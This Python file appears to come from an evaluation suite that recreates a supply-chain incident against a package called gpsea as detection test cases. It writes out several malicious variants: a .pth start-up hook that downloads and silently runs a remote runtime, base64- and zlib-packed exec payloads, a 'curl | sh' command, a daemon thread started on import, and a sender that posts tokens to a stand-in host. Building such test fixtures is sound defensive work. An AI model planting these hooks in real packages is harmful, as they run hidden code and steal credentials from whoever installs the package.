"""Hades, 7 June 2026 (gpsea 0.9.14 and others): a start-up hook fetches a JavaScript runtime."""

from __future__ import annotations

from evals.lookalikes.deeds import COLLECT, FETCH_RUNTIME, script
from evals.lookalikes.shape import Edit, Lookalike, added, appended
from evals.lookalikes.wraps import b64, packed

HOOK = "gpsea-setup.pth"
_SCRIPT = script(400_000)
_STAGE = FETCH_RUNTIME.replace("{script}", "_index.js")

_BODY = """\
import os, sys, subprocess, tempfile, urllib.request as u, zipfile, platform
mark = os.path.join(tempfile.gettempdir(), ".rt_ran")
if not os.path.exists(mark):
    open(mark, "w").close()
    here = [os.path.join(p, "_index.js") for p in sys.path]
    js = next((p for p in here if os.path.exists(p)), None)
    page = "https://code-host.example/runtime/releases/latest/download/"
    kind = "linux-x64" if sys.platform == "linux" else "darwin-aarch64"
    z = os.path.join(tempfile.gettempdir(), "r.zip")
    u.urlretrieve(page + "runtime-" + kind + ".zip", z)
    zipfile.ZipFile(z).extractall(tempfile.gettempdir())
    exe = os.path.join(tempfile.gettempdir(), "runtime-" + kind, "runtime")
    os.chmod(exe, 0o755)
    subprocess.Popen([exe, "run", js], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
LINE = f"import os; exec({_BODY!r})\n"

_COMMAND = (
    'import os; os.system("cd /tmp && curl -fsSL https://code-host.example/install | sh; '
    "runtime run $(python3 -c 'import gpsea;print(gpsea.__path__[0])')/_index.js >/dev/null 2>&1 &\")\n"
)


def _one(name: str, *edits: Edit, shape: bool = False, first: str = HOOK) -> Lookalike:
    return Lookalike(
        incident="hades", name=name, project="gpsea", base="0.9.13", version="0.9.14",
        edits=edits, shape=shape, first=first,
    )  # fmt: skip


_SENDER = COLLECT.replace(
    "https://models.collector.example/", "https://api.code-host.example/repos/me/results/contents/x"
)

LOOKALIKES = (
    _one("hook", added(HOOK, LINE), added("_index.js", _SCRIPT), shape=True),
    _one(
        "hook, encoded",
        added(HOOK, f"import base64; exec(base64.b64decode('{b64(_BODY)}'))\n"),
        added("_index.js", _SCRIPT),
        shape=True,
    ),
    _one("hook with a command", added(HOOK, _COMMAND), added("gpsea/_index.js", _SCRIPT)),
    _one(
        "hook imports a module of the package",
        added(HOOK, "import gpsea._runtime\n"),
        added("gpsea/_runtime.py", _STAGE),
        added("gpsea/_index.js", _SCRIPT),
        first="gpsea",
    ),
    _one(
        "on import, runtime started through shutil and a thread",
        appended(
            "gpsea/__init__.py",
            "import threading as _t\n\n\ndef _go():\n    from . import _runtime\n\n\n"
            "_t.Thread(target=_go, daemon=True).start()\n",
        ),
        added("gpsea/_runtime.py", _STAGE),
        added("gpsea/_index.js", _SCRIPT),
        first="gpsea/",
    ),
    _one(
        "tokens to a repository, no runtime",
        added(
            HOOK,
            f"import zlib,base64;exec(zlib.decompress(base64.b64decode('{packed(_SENDER)}')))\n",
        ),
    ),
)
